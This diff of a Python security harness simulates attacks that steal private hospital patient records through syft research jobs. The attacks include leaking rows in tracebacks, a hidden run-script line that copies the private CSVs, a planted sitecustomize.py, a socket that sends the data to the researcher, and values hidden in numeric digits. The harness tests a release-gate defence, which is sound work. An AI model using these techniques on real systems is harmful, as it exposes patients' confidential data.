@@ -13,7 +13,7 @@ from __future__ import annotations
 
 import contextlib
 import io
-import json
+import re
 import socket
 from collections.abc import Callable, Sequence
 from dataclasses import dataclass, field
@@ -36,8 +36,6 @@ ASKED = ("age", "sex", "dzgroup", "meanbp", "hospdead")  # the columns of the pr
 N_PATIENTS = 60
 _DATASET, _JOB = "patients", "count"
 
-# The jobs: what the owner is shown, and what is added where the owner is not shown it
-
 COUNT = """
 import json
 import math
@@ -54,40 +52,6 @@ deaths = sum(row.endswith(",1") for row in rows) + geometric() - geometric()
 json.dump({"died in hospital": deaths}, open("outputs/result.json", "w"))
 """
 
-_PRINTS = (
-    COUNT
-    + """
-import traceback
-
-half = len(rows) // 2
-print(*rows[:half], sep="\\n")
-try:
-    raise ValueError("\\n".join(["cannot read these rows:", *rows[half:]]))
-except ValueError:
-    traceback.print_exc()
-"""
-)
-
-_STRAY = (
-    COUNT
-    + """
-open("rows.tmp", "w").write("\\n".join(rows))
-"""
-)
-
-_PUBLIC = (
-    COUNT
-    + """
-import os
-from pathlib import Path
-
-folder = Path(os.environ["SYFTBOX_FOLDER"], os.environ["SYFTBOX_EMAIL"], "public", "notes")
-folder.mkdir()
-(folder / "notes.txt").write_text("\\n".join(rows))
-(folder / "syft.pub.yaml").write_text("rules:\\n- pattern: '**'\\n  access:\\n    read: ['*']\\n")
-"""
-)
-
 _SWAPPED = """
 import json
 import syft as sy
@@ -95,8 +59,6 @@ import syft as sy
 rows = open(sy.resolve_dataset_file_path("patients")).read().splitlines()
 json.dump(rows, open("outputs/result.json", "w"))
 """
-
-_SCRIPT = 'cat "$SYFTBOX_FOLDER/$SYFTBOX_EMAIL/private/syft_datasets/patients/"*.csv > outputs/patients_private.csv\n'
 
 # Python imports a module of this name before anything else, and syft's run script puts the job's folder on its path.
 _PLANTED_NAME = "sitecustomize.py"
@@ -110,54 +72,6 @@ for table in (site / "private").rglob("*.csv"):
     shutil.copy(table, "outputs/details.csv")
 """
 
-_CALLS_HOME = (
-    COUNT
-    + """
-import socket
-
-with socket.create_connection(("127.0.0.1", PORT), timeout=5) as line:
-    line.sendall("\\n".join(rows).encode())
-"""
-)
-
-_HIDDEN = """
-import csv
-import statistics
-import syft as sy
-
-patients = list(csv.DictReader(open(sy.resolve_dataset_file_path("patients"))))
-with open("outputs/mean_age.csv", "w") as table:
-    for group in sorted({row["dzgroup"] for row in patients}):
-        rows = [row for row in patients if row["dzgroup"] == group]
-        mean, one = statistics.mean(float(row["age"]) for row in rows), rows[0]
-        marks = 2 * (one["sex"] == "female") + int(one["hospdead"])
-        digits = f"{float(one['age']) * 1e5:08.0f}{marks}{float(one['meanbp']):03.0f}"
-        print(f"{group},{mean:.1f}{digits}", file=table)
-"""
-
-
-def _from_digits(text: str) -> list[str]:
-    """Read one patient a disease group out of the digits after the first decimal of a mean age."""
-    rows = []
-    for line in text.splitlines():
-        group, _, mean = line.rpartition(",")
-        digits = mean.partition(".")[2][1:]
-        if group and 8 < len(digits) <= 12 and digits.isdigit():
-            digits = digits.ljust(12, "0")  # the gate drops zeros at the end
-            sex = "female" if int(digits[8]) >= 2 else "male"
-            rows.append(f"{int(digits[:8]) / 1e5},{sex},{group},{float(digits[9:])},{int(digits[8]) % 2}")
-    return rows
-
-
-def _from_json(text: str) -> list[str]:
-    """Read rows out of a JSON list."""
-    with contextlib.suppress(ValueError, TypeError):  # no JSON, or no list
-        return [row for row in json.loads(text) if isinstance(row, str)]
-    return []
-
-
-# What the researcher does beside the job
-
 
 class _Scene(NamedTuple):
     """Who takes part in an attack, and over what."""
@@ -167,10 +81,6 @@ class _Scene(NamedTuple):
     researcher: SyftRDSClient
     colleague: SyftRDSClient
     home: socket.socket  # where the researcher waits for calls
-
-
-def _nothing(scene: _Scene) -> None:
-    pass
 
 
 def _swap_code(scene: _Scene) -> None:
@@ -193,13 +103,22 @@ def _plant_file(scene: _Scene) -> None:
     router.watcher_send_proposed_file_changes_message(hospital.email, message)
 
 
-def _send_rubbish(scene: _Scene) -> None:
-    """Put a file that is no message where the hospital looks for the researcher's messages."""
-    connection = scene.network.connection(scene.researcher)
-    connection.watcher_send_raw_bytes_to_inbox(scene.hospital.email, "msgv2_0.0_0.tar.gz", b"not a message")
+def _lines(text: str) -> list[str]:
+    """Read rows out of a table, a log, or a JSON list of texts."""
+    return re.split(r'[\r\n"]+', text)
 
 
-# The attacks
+def _from_digits(text: str) -> list[str]:
+    """Read one patient a disease group out of the digits after the first decimal of a mean age."""
+    rows = []
+    for line in text.splitlines():
+        group, _, mean = line.rpartition(",")
+        digits = mean.partition(".")[2][1:]
+        if group and 8 < len(digits) <= 12 and digits.isdigit():
+            digits = digits.ljust(12, "0")  # the gate drops zeros at the end
+            sex = "female" if int(digits[8]) >= 2 else "male"
+            rows.append(f"{int(digits[:8]) / 1e5},{sex},{group},{float(digits[9:])},{int(digits[8]) % 2}")
+    return rows
 
 
 @dataclass(frozen=True)
@@ -209,12 +128,13 @@ class Attack:
     name: str
     does: str  # in one sentence
     stopped_by: str | None  # the one defence that is made against it, a field of `Defences`; None if there is none
-    code: str = field(default=COUNT, repr=False)  # the job as the owner reads it in ``job.code``
-    _script: str = field(default="", repr=False)  # appended to the run script
-    _by_colleague: bool = field(default=False, repr=False)  # whose job it is
-    _before: Callable[[_Scene], None] = field(default=_nothing, repr=False)  # the review
-    _after: Callable[[_Scene], None] = field(default=_nothing, repr=False)  # the approval
-    _read: Callable[[str], Sequence[str]] = field(default=str.splitlines, repr=False)  # rows out of a file's text
+    adds: str = field(default="", repr=False)  # to a job that counts deaths with noise
+    code: str = field(default="", repr=False)  # the job as the owner reads it in ``job.code``, if it is another
+    script: str = field(default="", repr=False)  # appended to the run script, which syft does not show
+    by_colleague: bool = field(default=False, repr=False)  # whose job it is
+    before: Callable[[_Scene], None] | None = field(default=None, repr=False)  # the review
+    after: Callable[[_Scene], None] | None = field(default=None, repr=False)  # the approval
+    read: Callable[[str], Sequence[str]] = field(default=_lines, repr=False)  # rows out of a file's text
 
 
 #: The six attacks, in the order in which they are shown.
@@ -223,60 +143,56 @@ ATTACKS: tuple[Attack, ...] = (
         "logs",
         "The job prints half of the patients, and quotes the others in the traceback of an error.",
         "logs",
-        _PRINTS,
+        adds="""
+import traceback
+
+half = len(rows) // 2
+print(*rows[:half], sep="\\n")
+try:
+    raise ValueError("\\n".join(["cannot read these rows:", *rows[half:]]))
+except ValueError:
+    traceback.print_exc()
+""",
     ),
     Attack(
         "stray file",
         "The job leaves a file with the patients in its working directory, beside the code.",
         "stray_files",
-        _STRAY,
+        adds='\nopen("rows.tmp", "w").write("\\n".join(rows))\n',
     ),
     Attack(
         "swapped code",
         "After the approval the researcher sends other code under the same name.",
         "fingerprint",
-        _after=_swap_code,
-        _read=_from_json,
+        after=_swap_code,
     ),
     Attack(
         "run script",
         "The script that starts the job copies the patients; the code shown for review does not.",
         "run_script",
-        _script=_SCRIPT,
+        script='cat "$SYFTBOX_FOLDER/$SYFTBOX_EMAIL/private/syft_datasets/patients/"*.csv > outputs/patients_private.csv\n',
     ),
     Attack(
         "planted file",
         "The researcher slips a file into a colleague's job, in a message that names the colleague as its sender, and "
         "the colleague's answer hands the patients out.",
         "sender_check",
-        _by_colleague=True,
-        _before=_plant_file,
+        by_colleague=True,
+        before=_plant_file,
     ),
     Attack(
         "public folder",
         "The job makes a folder under public/ with a permission file of its own, which lets everybody read.",
         "scratch_copy",
-        _PUBLIC,
-    ),
-)
+        adds="""
+import os
+from pathlib import Path
 
-#: The seventh takes no patients: it stops the hospital's mail.
-JAM = Attack(
-    "jam",
-    "The researcher sends a file that is no message, and every later sync of the hospital stops at it.",
-    "quarantine",
-    _by_colleague=True,
-    _before=_send_rubbish,
-)
-
-#: What no gate of this kind stops, because it happens within code that was read and approved.
-RESIDUAL: tuple[Attack, ...] = (
-    Attack(
-        "hidden digits",
-        "The job answers with mean ages, whose last digits are the values of one patient a disease group.",
-        None,
-        _HIDDEN,
-        _read=_from_digits,
+folder = Path(os.environ["SYFTBOX_FOLDER"], os.environ["SYFTBOX_EMAIL"], "public", "notes")
+folder.mkdir()
+(folder / "notes.txt").write_text("\\n".join(rows))
+(folder / "syft.pub.yaml").write_text("rules:\\n- pattern: '**'\\n  access:\\n    read: ['*']\\n")
+""",
     ),
 )
 
@@ -285,10 +201,39 @@ HOME = Attack(
     "calls home",
     "The job sends the patients over the network to a computer of the researcher.",
     "scratch_copy",
-    _CALLS_HOME,
+    adds="""
+import socket
+
+with socket.create_connection(("127.0.0.1", PORT), timeout=5) as line:
+    line.sendall("\\n".join(rows).encode())
+""",
 )
 
-_BY_NAME = {known.name: known for known in (*ATTACKS, JAM, HOME, *RESIDUAL)}
+#: What no gate of this kind stops, because it happens within code that was read and approved.
+RESIDUAL: tuple[Attack, ...] = (
+    Attack(
+        "hidden digits",
+        "The job answers with mean ages, whose last digits are the values of one patient a disease group.",
+        None,
+        code="""
+import csv
+import statistics
+import syft as sy
+
+patients = list(csv.DictReader(open(sy.resolve_dataset_file_path("patients"))))
+with open("outputs/mean_age.csv", "w") as table:
+    for group in sorted({row["dzgroup"] for row in patients}):
+        rows = [row for row in patients if row["dzgroup"] == group]
+        mean, one = statistics.mean(float(row["age"]) for row in rows), rows[0]
+        marks = 2 * (one["sex"] == "female") + int(one["hospdead"])
+        digits = f"{float(one['age']) * 1e5:08.0f}{marks}{float(one['meanbp']):03.0f}"
+        print(f"{group},{mean:.1f}{digits}", file=table)
+""",
+        read=_from_digits,
+    ),
+)
+
+_BY_NAME = {known.name: known for known in (*ATTACKS, HOME, *RESIDUAL)}
 
 
 @dataclass(frozen=True)
@@ -304,30 +249,18 @@ class Leak:
     patients: int  # that there are
     ways: tuple[str, ...]  # names of the files in which they lie, sorted
     answered: bool  # outputs of the job reached whoever submitted it
-    blocked: bool  # the hospital could not sync any more
     refusals: tuple[str, ...]  # what the gate refused, took out or set aside, a sentence each
 
     @property
     def leaked(self) -> bool:
-        """True if the attack got what it is made for: patients, or a hospital cut off."""
-        return self.recovered > 0 or self.blocked
-
-    @property
-    def why(self) -> str:
-        """Which way the patients went, or what kept them."""
-        if self.blocked:
-            return "The hospital's sync stops at the file, and the messages behind it wait for ever."
-        if self.recovered:
-            files = " and ".join(self.ways)
-            return f"{self.recovered} of {self.patients} private patients have left the hospital, in {files}."
-        return " ".join(self.refusals) or Defences.STOPS.get(_BY_NAME[self.name].stopped_by, "Nothing has left.")
+        """True if the attack got patients."""
+        return self.recovered > 0
 
 
-def private_patients(n: int = N_PATIENTS) -> pd.DataFrame:
+def private_patients() -> pd.DataFrame:
     """Return the patients that the hospital of the attacks keeps private."""
     table = cohort.load_patients()[list(ASKED)].dropna().drop_duplicates()
-    n = checks.whole(n, "n", 1, len(table), error=AttackError)
-    return table.sample(n, random_state=0).reset_index(drop=True)
+    return table.sample(N_PATIENTS, random_state=0).reset_index(drop=True)
 
 
 def attack(
@@ -338,7 +271,7 @@ def attack(
     Parameters
     ----------
     name : str
-        Of one of `ATTACKS`, `JAM`, `HOME` or `RESIDUAL`.
+        Of one of `ATTACKS`, `HOME` or `RESIDUAL`.
     defences : Defences, optional
         Of the owner's release gate. Without it there is no gate, and the owner has what syft itself offers.
     encryption : bool
@@ -350,8 +283,19 @@ def attack(
     with contextlib.ExitStack() as stack:
         stack.enter_context(contextlib.redirect_stdout(io.StringIO()))  # syft tells every step
         home = stack.enter_context(socket.create_server(("127.0.0.1", 0)))
-        network = stack.enter_context(Network(encryption=encryption))
-        return _carried_out(plan, _scene(network, home), defences, rule)
+        scene = _scene(stack.enter_context(Network(encryption=encryption)), home)
+        submitter = scene.colleague if plan.by_colleague else scene.researcher
+        _submit(plan, submitter, scene)
+        if plan.before:
+            plan.before(scene)
+        refusals = _trusting_day(plan, scene) if defences is None else _gated_day(plan, scene, defences, rule)
+        for client in (scene.researcher, scene.colleague):
+            client.sync()
+        _answer_calls(scene)
+        rows = _rows(scene)
+        found = _found(plan, [scene.network.machine(client) for client in (scene.researcher, submitter)], rows)
+        recovered = len(set().union(*found.values()))
+        return Leak(name, recovered, len(rows), tuple(sorted(found)), _answered(submitter), tuple(refusals))
 
 
 def attack_all(defences: Defences | None = None) -> tuple[Leak, ...]:
@@ -372,95 +316,49 @@ def _scene(network: Network, home: socket.socket) -> _Scene:
     return _Scene(network, hospital, researcher, colleague, home)
 
 
-def _carried_out(plan: Attack, scene: _Scene, defences: Defences | None, rule: OutputRule | None) -> Leak:
-    """Submit the job, play the owner's day, and search what is on the researchers' disks then."""
-    submitter = scene.colleague if plan._by_colleague else scene.researcher
-    _submit(plan, submitter, scene)
-    plan._before(scene)
-    owner = _Trusting(scene) if defences is None else _Gated(scene, defences, rule)
-    blocked = _owners_day(plan, scene, owner)
-    for client in (scene.researcher, scene.colleague):
-        client.sync()
-    _answer_calls(scene)
-    rows = _rows(scene)
-    found = _found(plan, (scene.network.machine(scene.researcher), scene.network.machine(submitter)), rows)
-    recovered, ways = len(set().union(*found.values())), tuple(sorted(found))
-    return Leak(plan.name, recovered, len(rows), ways, _answered(submitter), blocked, tuple(owner.refusals))
-
-
 def _submit(plan: Attack, submitter: SyftRDSClient, scene: _Scene) -> None:
     """Submit the job as syft does; where the plan says so, with more in the run script than syft wrote."""
-    code = plan.code.replace("PORT", str(scene.home.getsockname()[1]))
+    code = plan.code or COUNT + plan.adds.replace("PORT", str(scene.home.getsockname()[1]))
     file = scene.network.write(submitter, "main.py", code)
     folder = submitter.job_client.submit_python_job(scene.hospital.email, str(file), _JOB)
     script = folder / "run.sh"
-    script.write_text(script.read_text() + plan._script)
+    script.write_text(script.read_text() + plan.script)
     submitter.sync_engine.push_job_files(folder)
 
 
-class _Trusting:
-    """An owner with what syft offers: the code is shown, and runs when it is approved."""
-
-    def __init__(self, scene: _Scene) -> None:
-        self.refusals: list[str] = []
-        self._client = scene.hospital
-
-    def sync(self) -> None:
-        self._client.sync()
-
-    def approve(self) -> None:
-        self._client.jobs[_JOB].approve()
-
-    def run(self) -> None:
-        self._client.process_approved_jobs(stream_output=False, timeout=60)
-
-    def release(self) -> None:
-        job = self._client.jobs[_JOB]
-        job.share_outputs([job.submitted_by])
-
-
-class _Gated:
-    """An owner behind the release gate."""
-
-    def __init__(self, scene: _Scene, defences: Defences, rule: OutputRule | None) -> None:
-        self.refusals: list[str] = []
-        budgets = {client.email: 1.0 for client in (scene.researcher, scene.colleague)}
-        self._gate = ReleaseGate(scene.hospital, budgets=budgets, defences=defences, rule=rule)
-
-    def sync(self) -> None:
-        for aside in self._gate.sync():
-            self.refusals.append(f"A message from {aside.sender} was set aside: it {aside.why}.")
-
-    def approve(self) -> None:
-        self._gate.approve(self._gate.review(_JOB), epsilon=0.5)
-
-    def run(self) -> None:
-        self._run = self._gate.run(_JOB)
-        if self._run.removed:
-            self.refusals.append(f"Thrown away with the scratch copy: {', '.join(self._run.removed)}.")
-
-    def release(self) -> None:
-        self._gate.release(self._run)
-
-
-def _owners_day(plan: Attack, scene: _Scene, owner: _Trusting | _Gated) -> bool:
-    """Take the mail, review, approve, run and release; tell whether the mail is blocked."""
-    try:
-        owner.sync()
-    except Exception:  # of any kind: syft lets through what its unpacking, decrypting or parsing raises
-        if plan is not JAM:
-            raise
-        return True
-    try:
-        owner.approve()
-        plan._after(scene)
-        owner.sync()
-        owner.run()
-        owner.release()
-    except ReleaseRefused as error:
-        owner.refusals.append(str(error))
+def _trusting_day(plan: Attack, scene: _Scene) -> list[str]:
+    """Be an owner with what syft offers: the code is shown, and runs when it is approved."""
+    owner = scene.hospital
     owner.sync()
-    return False
+    owner.jobs[_JOB].approve()
+    if plan.after:
+        plan.after(scene)
+    owner.sync()
+    owner.process_approved_jobs(stream_output=False, timeout=60)
+    job = owner.jobs[_JOB]
+    job.share_outputs([job.submitted_by])
+    owner.sync()
+    return []
+
+
+def _gated_day(plan: Attack, scene: _Scene, defences: Defences, rule: OutputRule | None) -> list[str]:
+    """Be an owner behind the release gate; return what it refused, took out or set aside."""
+    budgets = {client.email: 1.0 for client in (scene.researcher, scene.colleague)}
+    gate, said = ReleaseGate(scene.hospital, budgets=budgets, defences=defences, rule=rule), []
+    try:
+        said += [f"A message from {aside.sender} was set aside: it {aside.why}." for aside in gate.sync()]
+        gate.approve(gate.review(_JOB), epsilon=0.5)
+        if plan.after:
+            plan.after(scene)
+        gate.sync()
+        run = gate.run(_JOB)
+        if run.removed:
+            said.append(f"Thrown away with the scratch copy: {', '.join(run.removed)}.")
+        gate.release(run)
+    except ReleaseRefused as error:
+        said.append(str(error))
+    gate.sync()
+    return said
 
 
 def _answer_calls(scene: _Scene) -> None:
@@ -484,7 +382,7 @@ def _found(plan: Attack, machines: Sequence[Path], rows: frozenset[str]) -> dict
     found: dict[str, set[str]] = {}
     wanted = {_values(row): row for row in rows}
     for file in (file for machine in machines for file in machine.rglob("*") if file.is_file()):
-        lines = map(_values, plan._read(file.read_text(encoding="utf-8", errors="replace")))
+        lines = map(_values, plan.read(file.read_text(encoding="utf-8", errors="replace")))
         if here := {wanted[line] for line in lines if line in wanted}:
             found.setdefault(file.name, set()).update(here)
     return found
